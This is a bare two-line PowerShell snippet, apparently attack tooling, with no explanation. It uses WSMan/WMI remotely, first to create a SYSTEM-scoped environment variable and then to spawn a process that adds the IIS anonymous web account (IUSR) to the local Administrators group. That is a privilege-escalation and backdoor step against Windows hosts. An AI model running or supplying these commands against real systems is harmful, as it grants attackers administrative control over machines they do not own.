New-WSManInstance -ResourceURI wmicimv2/Win32_Environment -SelectorSet @{ Name = 'x'; UserName = '<SYSTEM>' } -ValueSet @{ VariableValue = '1' }
Invoke-WSManAction -ResourceURI wmicimv2/Win32_Process -Action Create -ValueSet @{ CommandLine = 'net localgroup Administrators IUSR /add' }
